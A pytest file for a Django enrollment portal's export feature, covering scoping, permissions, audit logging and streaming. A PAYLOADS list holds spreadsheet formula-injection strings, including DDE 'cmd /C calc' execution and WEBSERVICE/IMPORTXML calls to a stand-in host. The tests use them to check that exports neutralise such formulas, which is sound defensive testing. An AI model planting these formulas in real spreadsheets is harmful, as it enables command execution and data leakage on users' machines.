"""Lists taken along as tables: the rows one sees, in words, asked for and noted, and nothing in them runs."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from centers.core import table_writing
from centers.models import Export
from enrollment.applying import steps
from enrollment.applying.answer_columns import columns
from enrollment.models import Applicant, Application, EnrolledColumn, Mark
from enrollment.offers.services import accept_offer, enroll
from enrollment.office.enrolled_columns import load
from enrollment.values.marks import ABSENT, MarkValue
from rehamna_portal import roles
from tests.enrollment.test_admin import sign_in
from tests.factories import (
    ApplicantFactory,
    ApplicationFactory,
    CenterFactory,
    CriterionFactory,
    IntakeFactory,
    ProgramFactory,
    UserFactory,
)
from tests.scenarios.decisions import candidate, deciding, offer_of, run_and_publish

pytestmark = pytest.mark.django_db
ADDRESS = "/admin/enrollment/application/do/export/"


@pytest.fixture
def here():
    return IntakeFactory(program=ProgramFactory(center=CenterFactory(accent="code")))


@pytest.fixture
def office(client, here):
    return sign_in(client, roles.STAFF, here.program.center)


def content_of(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(content: bytes) -> list[dict]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def taken(client, query="", **answers):
    return client.post(ADDRESS + query, {"ending": "csv", "reason": "رحلة", **answers})


def test_every_list_has_its_way_to_a_table_and_keeps_the_filter(office, here):
    ApplicationFactory(campaign=here.campaign, intakes=[here])
    page = office.get("/admin/enrollment/application/?state=submitted").content.decode()
    assert f'href="{ADDRESS}?state=submitted"' in page
    asked = office.get(f"{ADDRESS}?state=submitted")
    assert asked.status_code == 200
    assert len(asked.context["source"].numbers) == 1
    assert len(office.get(f"{ADDRESS}?state=refused").context["source"].numbers) == 0
    assert office.get(f"{ADDRESS}?nothing__like=this").url == "/admin/enrollment/application/?e=1"


def test_only_the_rows_of_the_own_centres_leave_with_the_own_choices(office, here):
    elsewhere = IntakeFactory(campaign=here.campaign, program=ProgramFactory(center=CenterFactory(accent="eco")))
    mine = ApplicationFactory(campaign=here.campaign, intakes=[elsewhere, here])
    ApplicationFactory(campaign=here.campaign, intakes=[elsewhere])
    (row,) = csv_rows(content_of(taken(office)))
    assert row["Numéro de dossier"] == mine.reference
    assert row["Numéro de téléphone"] == "06 12 34 56 78"
    assert (row["Choix 1"], row["Choix 2"]) == ("", here.program.name_fr)
    assert row["Date de naissance"] == "06/05/2008"


def test_the_reason_is_asked_and_every_table_is_noted_for_the_administrators(office, here, client):
    ApplicationFactory(campaign=here.campaign, intakes=[here])
    assert taken(office, reason="  ").status_code == 200
    assert not Export.objects.exists()
    content_of(taken(office, "?state=submitted", reason="Liste pour la réunion"))
    noted = Export.objects.get()
    assert (noted.rows, noted.ending, noted.is_personal) == (1, "csv", True)
    assert (noted.reason, noted.narrowed) == ("Liste pour la réunion", "state=submitted")
    assert office.get("/admin/centers/export/").status_code == 403
    page = sign_in(client, roles.MANAGER).get("/admin/centers/export/").content.decode()
    assert "Liste pour la réunion" in page
    assert noted.by.username in page


def test_whom_somebody_searched_for_is_kept_nowhere(office, here):
    file = ApplicationFactory(campaign=here.campaign, intakes=[here])
    content_of(taken(office, f"?state=submitted&q={file.applicant.family_name}"))
    noted = Export.objects.get()
    assert (noted.rows, noted.narrowed) == (1, "state=submitted&q=...")


@pytest.mark.parametrize(("role", "status"), [(roles.READER, 403), (roles.WARDEN, 403), (roles.BOARD, 200)])
def test_personal_data_leave_with_the_right_alone(client, here, role, status):
    ApplicationFactory(campaign=here.campaign, intakes=[here])
    reader = sign_in(client, role, here.program.center)
    assert taken(reader).status_code == status
    if role == roles.READER:
        assert "do/export" not in reader.get("/admin/enrollment/application/").content.decode()


def test_content_leaves_without_a_reason(client):
    CenterFactory(accent="code")
    reader = sign_in(client, roles.READER)
    response = reader.post("/admin/centers/center/do/export/", {"ending": "csv"})
    assert "Centre centre-code" in content_of(response).decode()
    assert Export.objects.get().is_personal is False


def test_every_answer_of_the_pages_has_its_column():
    asked = {name for model in (Applicant, Application) for name in steps.columns(model)}
    assert asked - {column.name for column in columns()} == {"outside_province", "guardian_consents"}


# What spreadsheets have run, or were tricked into reading, as a formula.
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1;2)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", '=HYPERLINK("http://x.example";"y")', "=IMPORTXML(CONCAT(\"http://x.example/\";A1);\"//a\")",
    "=WEBSERVICE(\"http://x.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=2+5+cmd|' /C calc'!A0", "=-1", "=+1",
    "--1", "++1", "-@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1+1", "'+1",
    '=1+1;"=2+2"', '"=1+1"', "=1+1\n=2+2",
]  # fmt: skip


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_thirty_payloads_stay_text_and_come_back_letter_for_letter(ending):
    assert len(PAYLOADS) >= 30
    content = b"".join(table_writing.pieces([["a"], *([text] for text in PAYLOADS)], ending, right_to_left=True))
    if ending == "csv":
        cells = [row[0] for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")]
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}
        cells = [row[0].value for row in sheet.iter_rows()]
    assert [
        cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    ] == []
    back = [table_writing.plain(cell) for cell in cells[1:]]
    wanted = [text.replace("\r", "\n") for text in PAYLOADS] if ending == "xlsx" else PAYLOADS
    assert [text.replace("\r", "\n") for text in back] == [text.replace("\r", "\n") for text in wanted]


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_names_that_are_formulas_stay_text_in_the_table_of_a_list(office, here, ending):
    for text in PAYLOADS[:4]:
        ApplicationFactory(campaign=here.campaign, intakes=[here], applicant=ApplicantFactory(given_name=text))
    content = content_of(taken(office, ending=ending))
    if ending == "xlsx":
        sheet = load_workbook(io.BytesIO(content)).active
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
        assert not [c for row in sheet.iter_rows() for c in row if str(c.value or "").startswith(("=", "+", "-", "@"))]
    else:
        assert {row["Prénom"] for row in csv_rows(content)} == {f"'{text}" for text in PAYLOADS[:4]}


def test_the_first_piece_leaves_before_a_row_is_read_and_queries_do_not_grow_by_row(
    office, here, django_assert_max_num_queries
):
    for _person in range(30):
        ApplicationFactory(campaign=here.campaign, intakes=[here])
    response = taken(office)
    with django_assert_max_num_queries(0):
        assert b"Num\xc3\xa9ro de dossier" in next(iter(response.streaming_content))
    with django_assert_max_num_queries(8):
        rest = b"".join(response.streaming_content)
    assert rest.count(b"\r\n") == 30
    assert Application.objects.count() == 30
    assert reverse("admin:enrollment_application_export") == ADDRESS


# --- tables that are no list ------------------------------------------------------------------


def test_the_enrolled_of_a_centre_leave_in_the_columns_that_staff_keep(client):
    campaign, (intake, other) = deciding(2, 2)
    here = intake.program.center
    elsewhere = CenterFactory(accent=next(a for a in ("av", "eco") if a != here.accent))
    other.program.center = elsewhere
    other.program.save()
    files = [candidate(campaign, [one], person__phone="+212611111111") for one in (intake, other)]
    run_and_publish(campaign)
    for file in files:
        accept_offer(offer_of(file))
        enroll(file, by=UserFactory())
    office = sign_in(client, roles.STAFF, here)
    address = reverse("admin:enrollment_application_enrolled")
    assert "échantillon" in office.get(address).content.decode() or "sample" in office.get(address).content.decode()
    load()
    assert EnrolledColumn.objects.filter(is_sample=True).count() == EnrolledColumn.objects.count() > 15
    answers = {"ending": "csv", "reason": "OFPPT"}
    (row,) = csv_rows(content_of(office.post(f"{address}?campaign={campaign.slug}", answers)))
    assert (row["Code Massar"], row["Téléphone"], row["Numéro de dossier"]) == (
        "",
        "06 11 11 11 11",
        files[0].reference,
    )
    EnrolledColumn.objects.exclude(source="program").delete()
    EnrolledColumn.objects.update(heading_fr="Filière demandée")
    board = sign_in(client, roles.BOARD)
    rows = csv_rows(content_of(board.post(address, answers)))
    assert [list(one) for one in rows] == [["Filière demandée"]] * 2
    (mine,) = csv_rows(content_of(board.post(f"{address}?center={elsewhere.slug}", answers)))
    assert mine["Filière demandée"] == other.program.name_fr
    assert Export.objects.count() == 3


def test_all_marks_leave_with_an_absence_as_such(office, here):
    interview = CriterionFactory(intake=here, kind="entered", appointment="interview", weight=40, name_fr="Entretien")
    for value in (MarkValue(1250), ABSENT):
        choice = ApplicationFactory(campaign=here.campaign, intakes=[here]).choices.get()
        Mark.objects.create(
            choice=choice, criterion=interview, hundredths=value.hundredths, is_absence=value.is_absence
        )
    address = reverse("admin:enrollment_application_all_marks")
    rows = csv_rows(content_of(office.post(address, {"ending": "csv", "reason": "jury"})))
    assert sorted((row["Note sur 20"] for row in rows), reverse=True) == ["absence", "12,50"]
    assert {row["Critère"] for row in rows} == {"Entretien"}


def test_one_page_leads_to_every_table_that_the_account_may_take(client, here):
    for role, wanted in ((roles.STAFF, True), (roles.READER, False)):
        page = sign_in(client, role, here.program.center).get("/admin/enrollment/application/do/tables/")
        links = {link.name for side in ("leaving", "coming") for link in page.context[side]}
        assert ("enrollment_application_enrolled" in links) is wanted
        assert ("enrollment_application_paper" in links) is wanted
        assert "centers_commune_export" in links
        assert "centers_commune_import" not in links
